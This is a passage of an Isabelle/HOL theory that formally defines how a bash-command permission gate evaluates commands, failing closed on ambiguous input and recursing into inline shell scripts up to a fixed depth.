     (let norm = normalize_command_words raw_words;
          d = fail_closed_if (exhausted norm \<or> ambiguous norm \<or> env_options_uncertain norm);
          d = combine_gate_decisions d (fail_closed_if (has_split_string norm));
          inner_words = norm_words norm;
          forms = raw_words # (if length inner_words \<noteq> length raw_words then [inner_words] else []);
          d = foldl (\<lambda>d words. combine_gate_decisions d (escalate_segment env pol (join [32] words))) d forms;
          d = (case shell_dash_c_script (map LiteralWord inner_words) of
                 LiteralAt index \<Rightarrow> combine_gate_decisions d (inner (inner_words ! index))
               | NotInline \<Rightarrow> d
               | _ \<Rightarrow> combine_gate_decisions d (Some AskFailClosed)) in
      case env_split_string_script inner_words of
        Some script \<Rightarrow> combine_gate_decisions d (inner script)
      | None \<Rightarrow> d)"

definition evaluate_segments ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> (rstring \<Rightarrow> gate_decision option) \<Rightarrow> rstring \<Rightarrow> gate_decision option" where
  "evaluate_segments env pol inner cmd = (case all_commands_from_script env cmd of
     None \<Rightarrow> Some AskFailClosed
   | Some segments \<Rightarrow>
       foldl (\<lambda>d words. combine_gate_decisions d (evaluate_command_words env pol inner words)) None segments)"

primrec evaluate_bash_command_segments ::
  "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> nat \<Rightarrow> rstring \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_segments env pol 0 = evaluate_segments env pol (\<lambda>_. Some AskFailClosed)"
| "evaluate_bash_command_segments env pol (Suc depth) =
     evaluate_segments env pol (evaluate_bash_command_segments env pol depth)"

definition evaluate_bash_command_gate :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> rstring \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_gate env pol cmd =
     (if \<not> has_bash_command_restrictions pol then None
      else evaluate_bash_command_segments env pol MAX_INLINE_SHELL_DEPTH cmd)"

definition evaluate_bash_command_policy :: "'g policy_env \<Rightarrow> 'g compiled_policy \<Rightarrow> rstring \<Rightarrow> decision option" where
  "evaluate_bash_command_policy env pol cmd = map_option into_decision (evaluate_bash_command_gate env pol cmd)"

end
